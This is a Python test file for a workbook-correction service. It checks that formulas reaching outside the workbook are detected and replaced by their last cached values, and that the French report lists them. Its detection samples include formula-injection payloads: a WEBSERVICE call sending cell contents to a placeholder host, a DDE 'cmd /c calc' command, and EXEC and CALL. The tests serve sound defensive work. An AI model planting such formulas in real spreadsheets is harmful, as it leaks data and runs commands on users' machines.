"""A corrected workbook does not carry on what reaches outside: its last result stands there."""

import io

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.workbook.defined_name import DefinedName

from services.ingestion.correction import outward
from services.ingestion.correction.findings import Findings
from services.ingestion.correction.outward import reaches_out
from services.ingestion.correction.results import Result, with_results
from services.ingestion.correction.workbook import corrected
from services.ingestion.feeds.own_parts import REPORT_SHEET
from tests.unit.ingestion.correction_samples import no_rows, opened, texts

OUT = [
    '=_xlfn.WEBSERVICE("http://x.example/?"&A1)', '=HYPERLINK("http://x.example",A1)', "=cmd|'/c calc'!A0",
    '=hyperlink ("x")', "=[1]Feuil1!A1", "='[1]Feuille 2'!A1+1", "=[1]!Nom", "='http://x.example/[a.xlsx]F'!A1",
    "='C:\\\\d\\\\[a.xlsx]F'!A1", '=RTD("a","b","c")', '=CALL("k","l","m")', '=REGISTER.ID("a","b")', '=EXEC("x")',
    '=IMPORTDATA("http://x.example")', '=1+FILTERXML(A1,"//a")', "='a\"b'!A1+WEBSERVICE(\"http://x.example\")",
    "=" + "A1+" * 5_000 + "1",
]  # fmt: skip
IN = [
    "=SUM(A1:A3)", "='Feuille 2'!A1/'Feuille 3'!B2", "=Tableau1[Montant 2020]", "=Tableau1[[#This Row],[a]]*2",
    '=IF(A1>0,"oui","non")', "=RECALL(1)", "=SUM('Janvier:Mars'!B2)", "={1,2|3}",
]  # fmt: skip


@pytest.mark.parametrize("formula", OUT)
def test_what_reaches_out(formula: str) -> None:
    assert reaches_out(formula)


@pytest.mark.parametrize("formula", IN)
def test_what_does_not(formula: str) -> None:
    assert not reaches_out(formula)


def book_of(formulas: dict[str, str], results: dict[str, Result], names: dict[str, str] | None = None) -> bytes:
    book = Workbook()
    page = book.worksheets[0]
    page.title = "F"
    for name, text in (names or {}).items():
        book.defined_names[name] = DefinedName(name, attr_text=text)
    for reference, formula in formulas.items():
        page[reference] = formula
    buffer = io.BytesIO()
    book.save(buffer)
    return with_results(buffer.getvalue(), {1: results})


def test_its_last_result_stands_in_its_place_and_the_report_says_so() -> None:
    formulas = {"A1": OUT[0], "A2": OUT[1], "A3": OUT[4], "A4": "=1+1", "A5": "=Loin*2", "A6": "=Près*2"}
    results = {"A1": Result("str", "=2+3"), "A2": Result("n", "12.5"), "A4": Result("n", "2"), "A5": Result("b", "1")}
    content = book_of(formulas, results, {"Loin": "[1]F!$A$1", "Près": "F!$A$4", "Plus_loin": "Loin"})
    written = corrected(content, Findings([], [], []), no_rows)
    page = opened(written)["F"]
    # A result that looks like a formula is text; a formula without a result stays visible, as text.
    assert [page[f"A{n}"].value for n in range(1, 7)] == ["=2+3", 12.5, OUT[4], "=1+1", True, "=Près*2"]
    assert [page[f"A{n}"].data_type for n in range(1, 7)] == ["s", "n", "s", "f", "b", "f"]
    assert set(load_workbook(io.BytesIO(written)).defined_names) == {"Près"}
    said = [text for text in texts(opened(written)[REPORT_SHEET]) if "hors du classeur" in text]
    assert len(said) == 1
    assert said[0].startswith("4 formule(s)")
    assert said[0].endswith("F!A1, F!A2, F!A3, F!A5")


def test_a_workbook_that_reaches_nowhere_hears_nothing_of_it() -> None:
    written = corrected(book_of({"A1": "=1+1"}, {}), Findings([], [], []), no_rows)
    assert not [text for text in texts(opened(written)[REPORT_SHEET]) if "hors du classeur" in text]


def test_a_formula_left_in_place_would_be_caught(monkeypatch: pytest.MonkeyPatch) -> None:
    """The planted defect: nothing reaches out."""
    monkeypatch.setattr(outward, "reaches_out", lambda _: False)
    with pytest.raises(AssertionError):
        test_its_last_result_stands_in_its_place_and_the_report_says_so()
